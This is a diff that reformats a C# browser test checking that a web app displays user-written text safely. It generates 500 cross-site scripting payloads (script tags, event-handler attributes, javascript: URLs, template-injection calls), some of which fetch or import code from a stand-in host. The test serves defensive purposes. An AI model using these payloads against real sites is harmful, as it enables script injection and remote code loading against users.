@@ -8,24 +8,81 @@ public sealed class HostileWordsTests(RunningSite site, Browser browser)
     [Fact]
     public async Task Whatever_is_written_is_shown_as_text()
     {
-        string[] acts = ["globalThis.struck=1", "top.struck=1", "fetch('//elsewhere.example')", "import('//elsewhere.example/a.js')", "document.title='struck'"];
+        string[] acts =
+        [
+            "globalThis.struck=1",
+            "top.struck=1",
+            "fetch('//elsewhere.example')",
+            "import('//elsewhere.example/a.js')",
+            "document.title='struck'",
+        ];
         string[] shapes =
         [
-            "<script>{0}</script>", "<img src=x onerror=\"{0}\">", "<svg onload=\"{0}\">", "\"><script>{0}</script>", "'><img src=x onerror={0}>", "<iframe srcdoc=\"<script>{0}</script>\"></iframe>", "<a href=\"javascript:{0}\">x</a>",
-            "</textarea><script>{0}</script>", "</title><script>{0}</script>", "<details open ontoggle=\"{0}\">", "<input autofocus onfocus=\"{0}\">", "<math><mtext><img src=x onerror={0}></mtext></math>", "<template><script>{0}</script></template>",
-            "<base href=//elsewhere.example>{0}", "<meta http-equiv=refresh content=\"0;url=javascript:{0}\">", "<link rel=stylesheet href=//elsewhere.example/{0}>", "<form action=//elsewhere.example><button>{0}</button></form>", "{{{{constructor.constructor('{0}')()}}}}",
-            "<style>@import '//elsewhere.example/{0}'</style>", "<object data=\"javascript:{0}\">", "<embed src=\"javascript:{0}\">", "<video><source onerror=\"{0}\"></video>", "<body onload=\"{0}\">", "<!--><img src=x onerror={0}>-->", "<noscript><p title=\"</noscript><img src=x onerror={0}>\">",
+            "<script>{0}</script>",
+            "<img src=x onerror=\"{0}\">",
+            "<svg onload=\"{0}\">",
+            "\"><script>{0}</script>",
+            "'><img src=x onerror={0}>",
+            "<iframe srcdoc=\"<script>{0}</script>\"></iframe>",
+            "<a href=\"javascript:{0}\">x</a>",
+            "</textarea><script>{0}</script>",
+            "</title><script>{0}</script>",
+            "<details open ontoggle=\"{0}\">",
+            "<input autofocus onfocus=\"{0}\">",
+            "<math><mtext><img src=x onerror={0}></mtext></math>",
+            "<template><script>{0}</script></template>",
+            "<base href=//elsewhere.example>{0}",
+            "<meta http-equiv=refresh content=\"0;url=javascript:{0}\">",
+            "<link rel=stylesheet href=//elsewhere.example/{0}>",
+            "<form action=//elsewhere.example><button>{0}</button></form>",
+            "{{{{constructor.constructor('{0}')()}}}}",
+            "<style>@import '//elsewhere.example/{0}'</style>",
+            "<object data=\"javascript:{0}\">",
+            "<embed src=\"javascript:{0}\">",
+            "<video><source onerror=\"{0}\"></video>",
+            "<body onload=\"{0}\">",
+            "<!--><img src=x onerror={0}>-->",
+            "<noscript><p title=\"</noscript><img src=x onerror={0}>\">",
         ];
         string[] wraps = ["{0}", "&lt;{0}", "\u202e{0}", "]]>{0}"];
-        string[] hostile = [.. from act in acts from shape in shapes from wrap in wraps select wrap.Replace("{0}", shape.Replace("{0}", act, StringComparison.Ordinal), StringComparison.Ordinal)];
+        string[] hostile =
+        [
+            .. from act in acts
+            from shape in shapes
+            from wrap in wraps
+            select wrap.Replace("{0}", shape.Replace("{0}", act, StringComparison.Ordinal), StringComparison.Ordinal),
+        ];
         Assert.Equal(500, hostile.Length);
 
         await using var visit = await Visit.Begin(browser);
         var keeper = new Keeper(visit, site);
         await keeper.Begin();
-        var entries = hostile.Select((text, at) => new { id = at.ToString("x32", System.Globalization.CultureInfo.InvariantCulture), day = "2026-03-14", writtenOn = "2026-03-14", tears = true, note = text, facts = new Dictionary<string, string[]>() });
+        var entries = hostile.Select(
+            (text, at) =>
+                new
+                {
+                    id = at.ToString("x32", System.Globalization.CultureInfo.InvariantCulture),
+                    day = "2026-03-14",
+                    writtenOn = "2026-03-14",
+                    tears = true,
+                    note = text,
+                    facts = new Dictionary<string, string[]>(),
+                }
+        );
         await keeper.Press("Bring in or take out");
-        await keeper.Give("bring-in", System.Text.Json.JsonSerializer.SerializeToUtf8Bytes(new { saltwater = "open data", format = 1, exported = "2026-03-14", entries, cycleDays = Array.Empty<int>() }));
+        await keeper.Give(
+            "bring-in",
+            System.Text.Json.JsonSerializer.SerializeToUtf8Bytes(
+                new
+                {
+                    saltwater = "open data",
+                    format = 1,
+                    exported = "2026-03-14",
+                    entries,
+                    cycleDays = Array.Empty<int>(),
+                }
+            )
+        );
         await keeper.Press("Bring it in");
         await keeper.Page.GetByText("Brought in: 500 evenings").WaitForAsync();
         await keeper.Press("Back");
@@ -50,7 +107,9 @@ public sealed class HostileWordsTests(RunningSite site, Browser browser)
 
         await keeper.Page.GetByRole(AriaRole.Searchbox).FillAsync("");
         await keeper.Press("A page to take along");
-        await keeper.Page.GetByLabel("What I want to ask, one thing a line").FillAsync(string.Join('\n', hostile), new() { Timeout = 120_000 });
+        await keeper
+            .Page.GetByLabel("What I want to ask, one thing a line")
+            .FillAsync(string.Join('\n', hostile), new() { Timeout = 120_000 });
         await keeper.Press("All");
         await keeper.Page.GetByText("my own words").ClickAsync();
         await visit.OpenAll();
